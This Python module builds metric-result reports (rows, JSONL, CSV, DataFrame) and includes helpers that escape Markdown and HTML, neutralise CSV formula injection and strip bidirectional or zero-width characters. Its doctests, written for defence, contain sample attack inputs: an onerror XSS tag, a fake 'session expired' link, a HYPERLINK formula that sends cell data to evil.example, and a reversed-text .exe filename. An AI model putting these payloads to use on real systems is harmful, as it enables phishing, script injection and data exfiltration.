"""One results layer for every front door: a metric's result as per-item rows, a plain table, JSONL,
CSV or a ``pandas.DataFrame``, with the signature in every row.

The CLI, the Space and the leaderboard all go through :class:`Report` (or, row by row while a stream
runs, :func:`result_row`); none of them formats results itself, and none imports another. Rows hold
``id``, ``task`` (when known), every declared per-sample output of the metric (primary first),
``primary`` (the name of the ranking column), ``signature`` and, for an item that could not be scored,
``error``. NaN becomes ``null`` in JSON and an empty cell in CSV.

>>> from mmjudge.metrics.baselines import Baselines
>>> metric = Baselines("rouge_l")
>>> report = Report.from_items(metric, [{"id": "a", "text": "a dog runs", "references": ["a dog runs"]},
...                                     {"id": "b", "text": "two cats", "references": ["a dog runs"]}])
>>> [(row["id"], row["rouge_l"]) for row in report.rows]
[('a', 1.0), ('b', 0.0)]
>>> report.to_jsonl().splitlines()[1][:60]
'{"id": "b", "task": "ic", "primary": "rouge_l", "rouge_l": 0'
"""

from __future__ import annotations

import csv
import io
import json
import math
import os
import re
from collections.abc import Sequence
from dataclasses import dataclass, field
from typing import Any, TextIO

from mmjudge.inputs import finite_mean
from mmjudge.metrics.spec import ItemResult, MetricSpec
from mmjudge.signature import Signature

PathOrFile = str | os.PathLike | TextIO


def json_safe(value: Any) -> Any:
    """JSON-safe: NaN/inf → None, numpy scalars → Python numbers, Signatures → str, inside lists and dicts too.

    >>> json_safe({"a": float("nan"), "b": [1.5, float("inf")]})
    {'a': None, 'b': [1.5, None]}
    """
    kind = type(value)
    # The common cells first, by exact type: a row of forty cells is converted per written item.
    if kind is str or kind is int or kind is bool or value is None:
        return value
    if kind is float:
        return value if math.isfinite(value) else None
    if kind is dict:
        return {k: json_safe(v) for k, v in value.items()}
    if kind is list or kind is tuple:
        return [json_safe(v) for v in value]
    if isinstance(value, Signature):
        return str(value)
    if isinstance(value, dict):
        return {k: json_safe(v) for k, v in value.items()}
    if hasattr(value, "item") and not isinstance(value, (list, str)):
        value = value.item()
    if isinstance(value, float) and not math.isfinite(value):
        return None
    if isinstance(value, (list, tuple)):
        return [json_safe(v) for v in value]
    return value


@dataclass
class Report:
    """Per-item rows of one metric run (possibly several ``compute`` calls, e.g. one per task).

    Attributes:
        spec: the metric's declaration (outputs, primary).
        rows: one dict per item, in input order.
        signatures: every distinct signature among the rows.
    """

    spec: MetricSpec
    rows: list[dict] = field(default_factory=list)

    # ------------------------------------------------------------------------------------- building
    @classmethod
    def from_result(
        cls,
        spec: MetricSpec,
        result: dict,
        ids: Sequence[Any] | None = None,
        task: str | None = None,
        extra: Sequence[dict] | None = None,
    ) -> Report:
        """Rows from one ``compute`` result: ``ids`` (default ``0..n-1``), the same ``task`` for all,
        ``extra`` per-row fields put after ``id``/``task`` (e.g. the text)."""
        report = cls(spec)
        report.add(result, ids=ids, task=task, extra=extra)
        return report

    @classmethod
    def from_items(
        cls,
        metric: Any,
        items: Sequence[dict],
        default_task: str | None = None,
        progress: bool = False,
        keep: Sequence[str] = (),
        on_error: str = "raise",
        **options: Any,
    ) -> Report:
        """Score item dicts (``id``, ``text``, ``image``, ``question``, ``box``, ``references``, ``task``)
        with ``metric`` (:meth:`~mmjudge.metrics.base.Metric.stream`: each item with its own task, else
        ``default_task``), keeping the item fields named in ``keep``; ``options`` are compute options
        (``explain`` …)."""
        report = cls(metric.spec)
        signature = str(metric.signature)
        for result in metric.stream(items, task=default_task, on_error=on_error, progress=progress, **options):
            extra = {k: items[result.index].get(k) for k in keep}
            report.rows.append(result_row(metric.spec, result, signature, extra))
        return report

    def add(self, result: dict, ids=None, task=None, extra=None) -> None:
        n = _length(result, self.spec)
        ids = list(ids) if ids is not None else list(range(len(self.rows), len(self.rows) + n))
        if len(ids) != n:
            raise ValueError(f"Expected {n} ids for {n} results, but got {len(ids)}.")
        signature = str(result.get("signature", ""))
        names = self.output_names(result)
        for k in range(n):
            row: dict[str, Any] = {"id": ids[k]}
            if task is not None:
                row["task"] = task
            if extra is not None:
                row.update(extra[k])
            row["primary"] = self.spec.primary
            for name in names:
                row[name] = result[name][k]
            row["signature"] = signature
            self.rows.append(row)

    def output_names(self, result: dict) -> list[str]:
        """Declared per-sample outputs present in ``result``: primary, other scores, diagnostics, texts."""
        order = self.spec.score_names() + [o.name for o in self.spec.outputs if o.kind != "score"]
        return [name for name in order if name in result]

    # ------------------------------------------------------------------------------------- reading
    @property
    def signatures(self) -> list[str]:
        return list(dict.fromkeys(row["signature"] for row in self.rows))

    def column(self, name: str) -> list[Any]:
        return [row.get(name) for row in self.rows]

    def summary(self) -> dict[str, Any]:
        """Mean of every score column over the rows (the metrics' own rule, :func:`finite_mean`: NaN and
        ±inf left out; a column with no finite value is left out here), and the signature(s)."""
        out: dict[str, Any] = {}
        for name in self.spec.score_names():
            mean = finite_mean(self.column(name))
            if not math.isnan(mean):
                out[f"mean_{name}"] = mean
        out["signatures"] = self.signatures
        return out

    # ------------------------------------------------------------------------------------- writing
    def to_records(self) -> list[dict]:
        """Rows as JSON-safe dicts (NaN → None)."""
        return [{k: json_safe(v) for k, v in row.items()} for row in self.rows]

    def to_jsonl(self, path: PathOrFile | None = None) -> str:
        """One JSON object per row; written to ``path`` when given. Returns the text."""
        text = "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in self.to_records())
        _write(path, text)
        return text

    def to_csv(self, path: PathOrFile | None = None) -> str:
        """CSV with a header; every cell through :func:`csv_cell` (lists joined with ``;``, NaN empty, text that
        a spreadsheet would run as a formula quoted, :func:`spreadsheet_safe`)."""
        records = self.to_records()
        columns = list(dict.fromkeys(k for r in records for k in r))
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, fieldnames=columns, lineterminator=CSV_LINE_END)
        writer.writeheader()
        for r in records:
            writer.writerow({k: csv_cell(v) for k, v in r.items()})
        _write(path, buffer.getvalue())
        return buffer.getvalue()

    def to_dataframe(self):
        """A ``pandas.DataFrame`` (pandas is imported only here)."""
        import pandas as pd

        return pd.DataFrame(self.rows)


def _length(result: dict, spec: MetricSpec) -> int:
    return len(result[spec.primary])


def result_row(spec: MetricSpec, result: ItemResult, signature: str, extra: dict | None = None) -> dict:
    """One report row for one streamed :class:`~mmjudge.metrics.base.ItemResult`: ``id``, ``task``, the
    ``extra`` fields, ``primary``, the outputs (declared order), ``signature`` and, for an item that could
    not be scored, ``error``."""
    row: dict[str, Any] = {"id": result.id, "task": result.task, **(extra or {}), "primary": spec.primary}
    order = spec.score_names() + [o.name for o in spec.outputs if o.kind != "score"]
    for name in order:
        if name in result.values:
            row[name] = result.values[name]
    row["signature"] = signature
    if result.error is not None:
        row["error"] = result.error
    return row


def _write(path: PathOrFile | None, text: str) -> None:
    if path is None:
        return
    if hasattr(path, "write"):
        path.write(text)  # type: ignore[union-attr]
        return
    with open(path, "w", encoding="utf-8", newline="") as f:
        f.write(text)


# Markdown that user text could use: escaped, so a typed [text](url) or **x** stays literal.
_MARKDOWN_SYNTAX = frozenset("\\`*_[]|~#@!")
_AUTOLINK = re.compile(r"(://|(?i:\bwww)\.)")


def markdown_text(value: object) -> str:
    """``value`` as literal text inside Markdown: the one escaping helper of every page that shows what a
    user typed (the Space, the leaderboard).

    HTML's ``& < >`` become entities (so ``<img onerror=…>`` is text, not an element), Markdown syntax
    is backslash-escaped (so ``[text](url)`` is not a link), bare URLs are broken (``https\\://``,
    ``www\\.``: GFM would autolink them), and line breaks become spaces (one line; no heading or list
    can start). Quotes stay as they are: they are syntax only inside HTML attributes, which never hold
    user text here.

    >>> markdown_text("<img src=x onerror=alert(1)>")
    '&lt;img src=x onerror=alert(1)&gt;'
    >>> markdown_text("[Session expired: click here](https://evil.example/)")
    '\\\\[Session expired: click here\\\\](https\\\\://evil.example/)'
    >>> markdown_text("**bold** `x` | y_z www.evil.example a@b.c")
    '\\\\*\\\\*bold\\\\*\\\\* \\\\`x\\\\` \\\\| y\\\\_z www\\\\.evil.example a\\\\@b.c'
    """
    text = " ".join(str(value).split())
    out = []
    for ch in text:
        if ch == "&":
            out.append("&amp;")
        elif ch == "<":
            out.append("&lt;")
        elif ch == ">":
            out.append("&gt;")
        elif ch in _MARKDOWN_SYNTAX:
            out.append("\\" + ch)
        else:
            out.append(ch)
    return _AUTOLINK.sub(lambda m: "\\" + m.group(0) if m.group(0) == "://" else m.group(0)[:-1] + "\\.", "".join(out))


# Cells a spreadsheet would read as a formula (OWASP, "CSV Injection"): text starting with one of these.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a CSV cell no spreadsheet runs: text that starts like a formula (``= + - @``, tab,
    carriage return) gets a leading single quote, as OWASP's CSV-injection guidance describes; numbers
    and every other text pass unchanged. Every CSV mmjudge writes goes through it; JSON and Parquet keep
    the text as given.

    >>> print(spreadsheet_safe('=HYPERLINK("http://evil.example/?x="&A2,"click")'))
    '=HYPERLINK("http://evil.example/?x="&A2,"click")
    >>> spreadsheet_safe("-1.5"), spreadsheet_safe(-1.5), spreadsheet_safe("a dog")
    ("'-1.5", -1.5, 'a dog')

    A text that already looks neutralised (quotes, then a formula start) gets one more quote, so
    :func:`from_spreadsheet_safe` gives back exactly what was written:

    >>> spreadsheet_safe("'=x"), from_spreadsheet_safe(spreadsheet_safe("'=x")), from_spreadsheet_safe("'=x")
    ("''=x", "'=x", '=x')
    """
    if isinstance(value, str) and value.lstrip("'").startswith(_FORMULA_STARTS):
        return "'" + value
    return value


def from_spreadsheet_safe(cell: Any) -> Any:
    """The text :func:`spreadsheet_safe` was given, from the cell it wrote: one leading quote dropped where
    quotes are followed by a formula start (mmjudge's own CSV readers, e.g. score files read back by the
    meta-evaluation). Every other cell is returned as it is.

    >>> from_spreadsheet_safe("'-1.5"), from_spreadsheet_safe("'tis"), from_spreadsheet_safe(2.0)
    ('-1.5', "'tis", 2.0)
    """
    if isinstance(cell, str) and cell.startswith("'") and cell.lstrip("'").startswith(_FORMULA_STARTS):
        return cell[1:]
    return cell


# RFC 4180 line ends. Why not "\n": Python's csv writer quotes a cell only for the characters of its line end,
# so with "\n" a carriage return inside a cell (a text starting with "\r", say) was written bare, and every
# reader split the row there.
CSV_LINE_END = "\r\n"


def csv_cell(value: Any) -> Any:
    """A value as a CSV cell: lists joined with ``;``, ``None``/NaN empty, and text a spreadsheet would run as a
    formula neutralised (:func:`spreadsheet_safe`). The one cell writer of every CSV the CLI and the engine
    write (``score --output x.csv``, ``--format csv``, :meth:`Report.to_csv`, the meta-evaluation tables).

    >>> csv_cell(["a", "b"]), csv_cell(float("nan")), csv_cell(2.5), csv_cell("@SUM(A1)"), csv_cell(["-1", "x"])
    ('a;b', '', 2.5, "'@SUM(A1)", "'-1;x")
    """
    if isinstance(value, (list, tuple)):
        value = ";".join(map(str, value))
    if value is None or (isinstance(value, float) and math.isnan(value)):
        return ""
    return spreadsheet_safe(value)


# Characters that change how a text is shown without showing themselves: bidirectional overrides,
# embeddings and isolates (U+202A-202E, U+2066-2069), direction marks, and zero-width characters.
_INVISIBLE = re.compile("[\u061c\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufeff\u180e]")


def invisible_characters(text: str) -> list[str]:
    """The bidirectional controls and zero-width characters in ``text``, as ``U+XXXX`` names (empty: none).

    >>> invisible_characters("\u202egnp.exe\u202c"), invisible_characters("a dog")
    (['U+202E', 'U+202C'], [])
    """
    return [f"U+{ord(ch):04X}" for ch in _INVISIBLE.findall(text)]


def strip_invisible(text: str) -> str:
    """``text`` without bidirectional controls and zero-width characters, so it shows as what it is.

    >>> strip_invisible("\u202egnp.exe\u202c")
    'gnp.exe'
    """
    return _INVISIBLE.sub("", text)
